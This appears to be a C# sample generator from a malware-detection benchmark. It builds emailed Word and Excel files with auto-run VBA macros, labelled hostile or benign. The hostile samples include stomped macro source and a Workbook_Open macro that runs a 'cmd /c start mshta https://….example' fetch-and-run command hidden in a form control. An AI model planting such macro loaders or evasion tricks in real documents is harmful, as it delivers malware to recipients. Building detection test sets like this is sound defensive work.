using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>Documents and workbooks with macros, in old and new formats: loaders, erased sources, texts kept in forms; and what colleagues send.</summary>
internal sealed class MacroDocuments : ISampleKind
{
    private static readonly string[] WordEvents = ["AutoOpen", "Document_Open", "AutoClose", "Document_Close", "InkPicture1_Painted", "Frame1_Layout"];
    private static readonly string[] ExcelEvents = ["Workbook_Open", "Auto_Open", "Workbook_BeforeClose", "Workbook_Activate"];

    public string Name => "macro-document";

    public IEnumerable<Sample> Make(Random random)
    {
        foreach (var extension in (string[])["docm", "xlsm", "doc", "xls"])
        {
            var word = extension.StartsWith('d');
            var module = word ? "ThisDocument" : "ThisWorkbook";
            var hostile = new VbaWriter().Module(module, Source(module, new MacroCode(random).Loader(random.Pick(word ? WordEvents : ExcelEvents))));
            if (random.Chance(0.5))
                hostile.Module("Module1", Source("Module1", new MacroCode(random).Harmless("Helper")));
            yield return Sample.Hostile($"{extension} with a loader", Mail(random, extension, hostile), [AttackType.Behaviour], "macro-suspicious", "behaviour-installs", "behaviour-execute");
            var benign = new VbaWriter().Module(module, Source(module, new MacroCode(random).Harmless(word ? "Document_Open" : "Workbook_Open"))).Module("Module1", Source("Module1", new MacroCode(random).Harmless("Helper")));
            yield return Sample.Benign($"{extension} with a harmless macro", Mail(random, extension, benign));
        }

        yield return Sample.Hostile("doc whose source was erased", Mail(random, "doc", Stomped(random, "")), [AttackType.Behaviour], "macro-stomped");
        yield return Sample.Hostile("docm whose source was replaced", Mail(random, "docm", Stomped(random, new MacroCode(random).Harmless("Document_Open"))), [AttackType.Behaviour], "macro-stomped");
        yield return Sample.Hostile("xls whose command stands in a form", Mail(random, "xls", WithForm(random)), [AttackType.Behaviour], "macro-suspicious", "behaviour-installs", "behaviour-execute");
        var kept = new MacroCode(random).Harmless("Workbook_Open");
        yield return Sample.Benign("xlsm with its compiled form", Mail(random, "xlsm", new VbaWriter().Module("ThisWorkbook", Source("ThisWorkbook", kept + "Sub Tell()\r\n  MsgBox \"All done\"\r\n  MsgBox \"See you\"\r\nEnd Sub\r\n"), VbaWriter.Compiled(random, random.Next(900, 4_000), "All done", "See you"))));
    }

    private static VbaWriter Stomped(Random random, string source)
    {
        var compiled = VbaWriter.Compiled(random, random.Next(1_500, 6_000), "WScript.Shell", $"mshta https://{random.Word()}.example/{random.Word()}.hta", random.Word());
        return new VbaWriter { Names = "\u0001\u0002AutoOpen\u0003CreateObject\u0001Run" }.Module("ThisDocument", Source("ThisDocument", source), compiled);
    }

    private static VbaWriter WithForm(Random random)
    {
        var (form, control, variable) = ($"UserForm{random.Next(1, 4)}", $"TextBox{random.Next(1, 9)}", random.Word());
        var source = $"Sub Workbook_Open()\r\n  Set {variable} = CreateObject({form}.{control}.Tag)\r\n  {variable}.Run {form}.{control}.Text, 0\r\n  CallByName {variable}, \"Run\", 1, {form}.{control}.Text\r\n  {variable}2 = StrReverse(\"{random.Word()}\")\r\nEnd Sub\r\n";
        return new VbaWriter().Module("ThisWorkbook", Source("ThisWorkbook", source)).Control(form, control, $"cmd /c start mshta https://{random.Word()}.example/{random.Word()}", "WScript.Shell");
    }

    private static string Source(string module, string code) => $"Attribute VB_Name = \"{module}\"\r\nAttribute VB_Base = \"0{{00020906-0000-0000-C000-000000000046}}\"\r\n{code}";

    private static byte[] Mail(Random random, string extension, VbaWriter project) => SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", Container(random, extension, project)));

    private static byte[] Container(Random random, string extension, VbaWriter project)
    {
        switch (extension)
        {
            case "docm":
                return new OoxmlWriter().Document(OoxmlWriter.Paragraph($"{random.Word()} {random.Word()}")).Part("word/vbaProject.bin", project.ToBin()).ToArray();
            case "xlsm":
                return new OoxmlWriter().Sheet("Sheet1", [("A1", random.Word()), ("B1", "12")]).Part("xl/vbaProject.bin", project.ToBin()).ToArray();
            default:
                var file = new CompoundWriter().Stream(extension == "doc" ? "WordDocument" : "Workbook", random.Bytes(random.Next(600, 9_000)));
                project.WriteTo(file, extension == "doc" ? "Macros" : "_VBA_PROJECT_CUR");
                return file.ToArray();
        }
    }
}
